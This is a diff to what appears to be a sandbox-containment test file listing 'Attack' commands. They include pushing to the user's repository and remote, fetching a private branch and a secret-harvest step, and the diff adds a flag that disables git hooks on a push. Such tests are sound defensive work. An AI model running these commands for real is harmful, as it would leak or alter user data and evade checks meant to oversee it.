@@ -83,7 +83,7 @@ COMMANDS: list[Attack] = [
             " chmod 0 $TMPDIR/harvest"),
     command("push-user", what="push into the user's repository by its path", answer=OPEN, needs="prevented", outside=True,
             how="git -c core.hooksPath=/dev/null push -q \"$USER_REPO/.git\" HEAD:refs/heads/pushed", by="sandbox"),
-    command("push-origin", what="push to where the user pushes", answer=PREVENTED, how="git push -q origin HEAD:refs/heads/pushed",
+    command("push-origin", what="push to where the user pushes", answer=PREVENTED, how="git -c core.hooksPath=/dev/null push -q origin HEAD:refs/heads/pushed",
             before="git remote add origin https://example.invalid/x", by="a cell has no remotes"),
     command("fetch-user", needs="secrets", what="read a private branch of the user's by its path (reading is not prevented)",
             how=LITTLE + "git fetch -q \"$USER_REPO/.git\" private"),
